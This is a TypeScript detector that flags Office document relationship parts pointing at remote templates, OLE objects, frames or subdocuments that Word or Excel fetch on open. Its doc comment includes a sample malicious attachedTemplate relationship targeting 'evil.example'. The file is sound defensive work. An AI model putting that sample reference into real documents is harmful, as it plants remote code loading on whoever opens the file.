/** Things that Word and Excel fetch and run when a file is opened. Links a person clicks, pictures and other sheets are none. */
const FETCHED = /\/(attachedTemplate|oleObject|frame|subDocument)$/i;
/** The writer's own disk, where templates usually lie, and paths inside the file; all else is another computer or a program. */
const NEAR = /^\s*(?:file:\/{3}[a-z]:|[a-z]:[\\/]|(?![\\/]{2})[^:]*$)/i;
/** Nothing in a tag holds a `<`: however many are opened and never closed, each is read once. */
const TAG = /<(?:\w+:)?Relationship(?![\w:.-])(?:[^<>"']|"[^<"]*"|'[^<']*')*>/gi;
const ATTRIBUTE = /(?<![\w:.-])([\w:.-]+)\s*=\s*("[^"]*"|'[^']*')/g;

/**
 * Whether a part of relations names a template, object or frame on another computer, which Office would fetch by itself.
 * @param xml a part such as `word/_rels/settings.xml.rels`
 * @example hasRemoteProgram('<Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>') // true
 */
export function hasRemoteProgram(xml: string): boolean {
  return (xml.match(TAG) ?? []).some((tag) => {
    const given = new Map(
      [...tag.matchAll(ATTRIBUTE)].map(([, name, text]) => [name!.toLowerCase(), text!.slice(1, -1)]),
    );
    const attribute = (name: string) => unescaped(given.get(name) ?? '');
    if (!/^\s*external\s*$/i.test(attribute('targetmode')) || !FETCHED.test(attribute('type').trim())) return false;
    return !NEAR.test(attribute('target'));
  });
}

function unescaped(text: string): string {
  return text
    .replace(/&#x([0-9a-f]{1,6});/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16) % 0x110000))
    .replace(/&#(\d{1,7});/g, (_, decimal: string) => String.fromCodePoint(Number(decimal) % 0x110000))
    .replaceAll('&amp;', '&');
}
